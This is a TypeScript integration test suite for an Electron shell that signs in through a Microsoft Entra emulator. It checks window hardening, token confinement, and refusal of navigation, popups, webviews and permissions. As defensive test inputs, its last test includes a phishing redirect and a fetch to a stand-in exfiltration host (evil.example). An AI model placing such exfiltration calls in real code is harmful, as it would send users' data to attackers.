/**
 * The Electron shell itself: the BUILT main bundle (out/main/index.js) boots under the Electron stand-in
 * (test/support/electron-stand-in/), its window is a real Chromium page that loads the built renderer and runs the
 * built preload (out/preload/preload.js), whose IPC reaches the shell's ipcMain handlers with a sender the shell
 * checks. The Microsoft hosts lead to the Entra emulator. Each test boots its own shell on a fresh data folder.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { REQUEST_NAMES, requestChannel } from '../../shared/ipc/channels';
import { CONTENT_SECURITY_POLICY } from '../../main/window';
import { launchChromium } from '../../tools/chromium';
import { headlessSignIn } from '../../tools/headless-sign-in';
import { startEmulator, type Emulator, type EmulatorOptions } from '../emulator';
import { BUILT_PRELOAD, bootBuiltShell, type BootedShell } from '../support/electron-stand-in';

const root = path.resolve(__dirname, '../..');
const rendererUrl = `file://${path.join(root, 'out/renderer/index.html')}`;

describe('the built Electron shell under the stand-in', () => {
  let browser: Browser;
  const cleanups: (() => Promise<void> | void)[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
  });

  afterEach(async () => {
    for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  });

  afterAll(async () => {
    await browser?.close();
  });

  /** A fresh data folder, an emulator of seed-blog.json and the shell booted against it. */
  async function boot(
    options: { emulator?: boolean; onAnswer?: EmulatorOptions['onAnswer'] } = {},
  ): Promise<{ shell: BootedShell; page: Page; emulator: Emulator | null }> {
    const userDataDir = mkdtempSync(path.join(tmpdir(), 'gmi-shell-'));
    cleanups.push(() => rmSync(userDataDir, { recursive: true, force: true }));
    let emulator: Emulator | null = null;
    if (options.emulator !== false) {
      emulator = await startEmulator({
        scenario: path.join(root, 'test/scenarios/seed-blog.json'),
        autoComplete: true,
        ...(options.onAnswer ? { onAnswer: options.onAnswer } : {}),
      });
      const running = emulator;
      cleanups.push(() => running.close());
    }
    const signIn = emulator ? headlessSignIn(emulator) : null;
    const shell = await bootBuiltShell({
      browser,
      userDataDir,
      appPath: root,
      ...(emulator ? { network: { routes: emulator.routes, caPem: emulator.caPem } } : {}),
      openExternal: async (url) => {
        if (signIn && new URL(url).hostname === 'login.microsoftonline.com') await signIn(url);
      },
    });
    cleanups.push(() => shell.quit());
    const page = await shell.mainPage();
    return { shell, page, emulator };
  }

  it('opens the hardened window on the real renderer, whose preload exposes exactly the channels main handles', async () => {
    const { shell, page } = await boot({ emulator: false });
    const { record, handlers } = shell.runtime;
    await page.getByRole('button', { name: 'Sign in with your work account' }).waitFor();
    expect(record.singleInstanceLockRequests).toBe(1);
    expect(record.loaded[0]).toBe(rendererUrl);
    expect(record.windows[0]!.webPreferences).toMatchObject({
      preload: BUILT_PRELOAD,
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      webviewTag: false,
    });
    const exposed = await page.evaluate('Object.keys(window.api)');
    const channels = REQUEST_NAMES.map(requestChannel).sort();
    expect(
      [...(exposed as string[])]
        .filter((k) => k !== 'onEvent')
        .map((k) => `gmi:${k}`)
        .sort(),
    ).toEqual(channels);
    expect([...handlers.keys()].sort()).toEqual(channels);
    expect(record.pageErrors).toEqual([]);
  });

  it('signs in at the emulator, scans and opens a drawer through the real preload; no token crosses IPC', async () => {
    const issued: string[] = [];
    const { shell, page } = await boot({
      onAnswer: (record, body) => {
        if (record.endpoint !== 'token' || record.status !== 200) return;
        const answer = JSON.parse(body) as Record<string, unknown>;
        for (const key of ['access_token', 'refresh_token', 'id_token']) {
          if (typeof answer[key] === 'string') issued.push(answer[key]);
        }
      },
    });
    const { record } = shell.runtime;
    await page.getByRole('button', { name: 'Sign in with your work account' }).click();
    // The shell hands the sign-in page to the system browser (here: completed headlessly at the emulator).
    await expect
      .poll(() => record.externalOpens.some((u) => u.startsWith('https://login.microsoftonline.com/')))
      .toBe(true);
    const grid = page.getByRole('grid', { name: 'Organisations' });
    await grid.waitFor({ timeout: 30_000 });
    const row = page.getByRole('row', { name: /Northwind Traders/ });
    await expect.poll(() => row.innerText(), { timeout: 30_000 }).toContain('Needs its own MFA');
    await row.click();
    const drawer = page.getByRole('dialog', { name: 'Details of Northwind Traders' });
    await expect.poll(() => drawer.innerText()).toMatch(/Needs its own MFA/);
    // The renderer's state came as events over the preload's channel, from the trusted window only.
    expect(record.sent.filter((s) => s.channel === 'gmi:event').length).toBeGreaterThan(0);
    expect(record.ipc.map((c) => c.channel)).toEqual(expect.arrayContaining(['gmi:signIn', 'gmi:getState']));
    expect(record.ipc.every((c) => c.trusted)).toBe(true);
    expect(issued.length).toBeGreaterThan(0);
    const traffic = JSON.stringify([record.ipc, record.sent]);
    for (const token of issued) expect(traffic).not.toContain(token);
    expect(record.pageErrors).toEqual([]);
  });

  it('refuses another origin, new windows, webviews and permission requests; the CSP is in force', async () => {
    const { shell, page } = await boot({ emulator: false });
    const { record } = shell.runtime;
    const contents = shell.mainContents();
    await page.getByRole('button', { name: 'Sign in with your work account' }).waitFor();
    const appUrl = contents.getURL();
    expect(appUrl).toBe(rendererUrl);

    // Navigation away from the app: refused before a request leaves; an allow-listed page goes to the system browser.
    await page.evaluate(`location.href = 'https://evil.example/phish'`);
    await page.evaluate(`location.href = 'https://learn.microsoft.com/en-us/entra/'`);
    await expect.poll(() => record.navigations.length).toBe(2);
    expect(record.navigations).toEqual([
      { url: 'https://evil.example/phish', prevented: true },
      { url: 'https://learn.microsoft.com/en-us/entra/', prevented: true },
    ]);
    await expect.poll(() => record.externalOpens).toEqual(['https://learn.microsoft.com/en-us/entra/']);
    expect(contents.getURL()).toBe(appUrl);
    await page.getByRole('button', { name: 'Sign in with your work account' }).waitFor();

    // New windows: denied (closed before they load); an allow-listed link goes to the system browser instead.
    await page.evaluate(
      `window.open('https://evil.example/popup'); window.open('https://mysignins.microsoft.com/security-info')`,
    );
    await expect.poll(() => record.windowOpens.length).toBe(2);
    expect(record.windowOpens).toEqual([
      { url: 'https://evil.example/popup', action: 'deny' },
      { url: 'https://mysignins.microsoft.com/security-info', action: 'deny' },
    ]);
    await expect.poll(() => record.externalOpens).toContain('https://mysignins.microsoft.com/security-info');
    expect(record.externalOpens.some((u) => u.includes('evil.example'))).toBe(false);
    expect(record.windowOpenHandlers).toContain(contents.id);

    // A <webview> never attaches.
    const attach = {
      defaultPrevented: false,
      preventDefault() {
        this.defaultPrevented = true;
      },
    };
    contents.emit('will-attach-webview', attach, {}, {});
    expect(attach.defaultPrevented).toBe(true);

    // Permission requests and checks: all refused, the page sees "denied".
    expect(await page.evaluate('Notification.requestPermission()')).toBe('denied');
    expect(
      await page.evaluate(`navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'granted', (e) => e.name)`),
    ).toBe('NotAllowedError');
    expect(
      await page.evaluate(
        `new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (e) => resolve(e.code)))`,
      ),
    ).toBe(1);
    expect(await page.evaluate(`navigator.permissions.query({ name: 'notifications' }).then((s) => s.state)`)).toBe(
      'denied',
    );
    expect(record.permissionRequests.map((r) => [r.permission, r.granted])).toEqual([
      ['notifications', false],
      ['media', false],
      ['geolocation', false],
    ]);
    expect(record.permissionChecks).toEqual([
      { permission: 'notifications', origin: expect.any(String), granted: false },
    ]);

    // The CSP: on the page's response (from the session), and in force for inline script, eval and remote fetches.
    const page0 = record.responses.find((r) => r.url === rendererUrl);
    expect(page0?.headers['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    const verdicts = await page.evaluate(`(async () => {
      const violations = [];
      const reported = new Promise((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => {
          violations.push(e.effectiveDirective);
          if (['script-src-elem', 'script-src', 'connect-src'].every((d) => violations.includes(d))) resolve();
        }),
      );
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      // eval from a task of the page (DevTools' own evaluation is exempt from the CSP, a later task is not).
      const evalResult = await new Promise((resolve) =>
        setTimeout(() => { try { resolve(eval('"ran"')); } catch (e) { resolve(e.name); } }),
      );
      const fetched = await fetch('https://evil.example/exfiltrate').then(() => 'loaded', (e) => e.name);
      await reported;
      return { inline: window.__inlineRan === true, evalResult, fetched, violations };
    })()`);
    expect(verdicts).toMatchObject({ inline: false, evalResult: 'EvalError', fetched: 'TypeError' });
    expect(record.requests.filter((r) => r.url.includes('evil.example'))).toEqual([]);
  });
});
